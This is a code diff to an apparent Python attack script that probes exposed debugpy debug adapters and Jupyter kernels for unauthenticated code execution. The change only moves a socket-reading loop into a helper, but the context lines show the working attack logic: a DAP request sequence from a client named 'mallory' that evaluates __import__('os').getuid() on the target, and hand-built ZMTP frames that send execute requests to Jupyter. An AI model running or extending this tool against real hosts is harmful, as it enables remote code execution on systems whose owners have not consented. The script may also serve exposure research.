@@ -77,6 +77,20 @@ REQUESTS = [("initialize", {"adapterID": "debugpy", "clientID": "mallory"}), ("a
             ("configurationDone", {}), ("threads", {}), ("pause", {"threadId": 1}),
             ("evaluate", {"expression": "__import__('os').getuid()", "context": "repl"})]
 
+def read_for(s, seconds):
+    """What the socket sends within seconds (less when it closes or goes quiet)."""
+    got = b""
+    deadline = time.time() + seconds
+    while time.time() < deadline:
+        try:
+            chunk = s.recv(65536)
+        except socket.timeout:
+            break
+        if not chunk:
+            break
+        got += chunk
+    return got
+
 def attack(fam, host, port):
     count("tried")
     try:
@@ -84,16 +98,7 @@ def attack(fam, host, port):
         s.settimeout(3)
         s.connect((host, port))
         s.sendall(b"".join(frame(i + 1, c, a) for i, (c, a) in enumerate(REQUESTS)))
-        buf = b""
-        deadline = time.time() + 4
-        while time.time() < deadline:
-            try:
-                chunk = s.recv(65536)
-            except socket.timeout:
-                break
-            if not chunk:
-                break
-            buf += chunk
+        buf = read_for(s, 4)
         s.close()
     except OSError:
         return
@@ -195,16 +200,7 @@ def jupyter_execute(host, port, code):
                               "allow_stdin": False}).encode()
         parts = [b"<IDS|MSG>", b"0" * 64, header, b"{}", b"{}", content]
         s.sendall(b"".join(zmtp_frame(p, more=i < len(parts) - 1) for i, p in enumerate(parts)))
-        got = b""
-        deadline = time.time() + 3
-        while time.time() < deadline:
-            try:
-                chunk = s.recv(65536)
-            except socket.timeout:
-                break
-            if not chunk:
-                break
-            got += chunk
+        got = read_for(s, 3)
         s.close()
     except OSError:
         return
